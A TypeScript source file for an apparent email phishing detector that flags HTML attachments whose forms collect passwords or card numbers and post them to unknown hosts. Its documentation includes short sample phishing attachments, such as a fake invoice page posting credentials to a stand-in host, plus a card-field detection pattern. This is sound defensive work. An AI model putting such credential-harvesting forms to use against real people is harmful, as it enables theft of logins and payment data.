import type { AttachedForm, AttachmentContent } from '../../attachments/attachment-content.ts';
import type { BrandDirectory } from '../../brands/brand-directory.ts';
import type { Facts } from '../facts.ts';
import { isForeignHost } from '../foreign-host.ts';
import type { Observation, Signal } from '../signal.ts';

/** A page with so many letters is one that somebody read and saved, menu and all. */
const SAVED_PAGE = 4_000;

const CARD =
  /\b(?:cvv|cvc|cc-?(?:number|csc|exp)|card-?(?:number|num|no)|kaartnummer|kartennummer|num[eé]ro de carte)\b/i;

/** What the form wants that no company wants in an attached page. */
function wanted({ fields }: AttachedForm): 'credentials' | 'card' | undefined {
  if (fields.includes('password')) return 'credentials';
  return fields.some((field) => CARD.test(field)) ? 'card' : undefined;
}

function observe(
  { name, text, forms }: AttachmentContent,
  facts: Facts,
  brands: BrandDirectory,
): Observation[] {
  if (text.length > SAVED_PAGE) return [];
  return forms.flatMap((form) => {
    const ask = wanted(form);
    if (ask === undefined || (form.host !== undefined && !isForeignHost(form.host, facts, brands))) return [];
    return [{ where: 'attachment', evidence: form.host ?? (name || ask), ask }];
  });
}

/**
 * An attached page asks for a password or a card and sends it to somebody who is neither the sender nor a known brand. No
 * filter sees where a page on the reader's own disc leads.
 *
 * ## Fires on
 *
 * ```
 * From: Info <info@mailing.example>
 * Content-Type: text/html; name="invoice.html"
 * Content-Disposition: attachment
 *
 * <form action="https://login.files.example/x"><input name="mail"><input type="password" name="p"></form>
 * --
 * From: Info <info@mailing.example>
 * Content-Type: text/html; name="voicemail.htm"
 * Content-Disposition: attachment
 *
 * <body><input type="password" id="p"><script>document.querySelector("button").onclick = send</script></body>
 * ```
 *
 * ## Stays silent on
 *
 * ```
 * From: Jan Peeters <jan@lab.example>
 * Content-Type: text/html; name="page.html"
 * Content-Disposition: attachment
 *
 * <form action="https://search.mailing.example/q"><input name="q"></form>
 * --
 * From: Jan Peeters <jan@lab.example>
 * Content-Type: text/html; name="intranet.html"
 * Content-Disposition: attachment
 *
 * <form action="https://www.lab.example/login"><input type="password"></form>
 * --
 * From: Jan Peeters <jan@lab.example>
 * Content-Type: text/html; name="paypal.html"
 * Content-Disposition: attachment
 *
 * <form action="https://www.paypal.com/signin"><input type="password"></form>
 * --
 * From: Jan Peeters <jan@lab.example>
 * Content-Type: text/html; name="minutes.html"
 * Content-Disposition: attachment
 *
 * <p>Minutes of the meeting</p>
 * ```
 *
 * ## Known limits
 *
 * Systems for encrypted mail attach a page with a form as well. What a script builds when the page is opened is not seen
 * here; see `html-attachment-with-redirect`.
 */
export const htmlAttachmentWithForm: Signal = {
  id: 'html-attachment-with-form',
  question: 'ask',
  description: 'An attached page asks for a password or a card',

  detect(facts, { brands }) {
    const pages = facts.attachments.filter(({ kind }) => kind === 'page');
    return pages.flatMap((page) => observe(page, facts, brands)).slice(0, 1);
  },
};
